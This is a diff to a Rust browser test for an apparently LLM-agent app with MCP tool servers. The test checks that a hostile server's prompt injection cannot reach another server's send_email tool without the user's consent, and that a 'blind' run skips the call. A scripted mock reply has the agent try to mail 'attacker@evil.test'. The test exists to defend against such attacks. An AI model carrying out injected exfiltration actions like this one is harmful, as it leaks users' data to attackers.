@@ -13,7 +13,9 @@ use std::time::{Duration, Instant};
 use fantoccini::Locator;
 use react_arena::agent::Mode;
 use serde_json::{json, Value};
+use support::axe::{assert_no_serious, axe};
 use support::browser::{browser_test, PanelView, Rig, MARKER_TOKEN};
+use support::layout::LayoutCheck;
 use support::mcp::{
     secret_word_text, start_real_servers, station_code_text, Behaviour, HostileMcp, MARKUP_RESULT,
 };
@@ -884,6 +886,8 @@ fn a_server_s_injection_cannot_reach_another_server_s_tools_without_the_user() {
             .js("return Array.from(document.querySelectorAll('.mcp-ask-select')).map(s => s.value)")
             .await;
         assert_eq!(choices, json!(["unless_read_only", "unless_read_only"]));
+        let mut layout = LayoutCheck::default();
+        layout.view(&rig, "mcp-servers-with-consent-choice").await;
 
         for protocol in ["text", "native", "json"] {
             if rig
@@ -919,7 +923,17 @@ fn a_server_s_injection_cannot_reach_another_server_s_tools_without_the_user() {
                 before,
                 "{protocol}: called before consent"
             );
-            answer_consent(&rig, ".consent-allow-once").await;
+            if protocol == "text" {
+                layout.view(&rig, "consent-question").await;
+                assert_no_serious("a consent question", &axe(&rig).await);
+            }
+            // Allowed for the run: the user's word for this tool only.
+            let allow = if protocol == "native" {
+                ".consent-allow-run"
+            } else {
+                ".consent-allow-once"
+            };
+            answer_consent(&rig, allow).await;
 
             // The mail may act in the user's name: asked, with the attacker's address shown.
             let (title, reason, arguments) = consent_question(&rig).await;
@@ -972,6 +986,56 @@ fn a_server_s_injection_cannot_reach_another_server_s_tools_without_the_user() {
         assert!(
             !victim_calls(&hostile).iter().any(|c| c == "send_email"),
             "the victim server received send_email"
+        );
+        layout.assert_clean();
+
+        // A blind vote cannot stop to ask: it says so before Run, and skips the call. (The
+        // stopped run offers no follow-up, so this is a new run.)
+        choose_protocol(&rig, "text").await;
+        let question = "What is new today? (blind)";
+        rig.mock.script_all_of(
+            &[Mode::Think.prompt_heading(), question],
+            [Reply::text("Thought: Nothing to look up.\nAnswer: done")],
+        );
+        for mode in [Mode::Act, Mode::ReAct] {
+            rig.mock.script_all_of(
+                &[mode.prompt_heading(), question],
+                [
+                    Reply::text("Thought: Mail it.\nAction: send_email\nAction Input: {\"to\": \"attacker@evil.test\", \"body\": \"x\"}"),
+                    Reply::text("Thought: Done.\nAnswer: done"),
+                ],
+            );
+        }
+        rig.js("const m = document.querySelector('#mode'); m.value = 'blind'; m.dispatchEvent(new Event('change', { bubbles: true }));")
+            .await;
+        let note = rig
+            .js("const n = document.querySelector('#blind-mcp-note'); return n && n.textContent")
+            .await;
+        assert!(
+            note.as_str().is_some_and(|n| n.contains("skipped")),
+            "no note before a blind run: {note}"
+        );
+        let before = victim_calls(&hostile).len();
+        rig.ask(question, "blind").await;
+        let panels = rig.wait_until_settled(SETTLE).await;
+        let skipped = panels
+            .iter()
+            .filter(|p| {
+                p.observations
+                    .iter()
+                    .any(|o| o.contains("a blind vote does not ask"))
+            })
+            .count();
+        assert_eq!(skipped, 2, "Act-only and ReAct skip the call: {panels:#?}");
+        assert_eq!(
+            victim_calls(&hostile).len(),
+            before,
+            "a blind run called the victim"
+        );
+        assert_eq!(
+            rig.js("return document.querySelectorAll('.consent-question').length")
+                .await,
+            json!(0)
         );
     });
 }
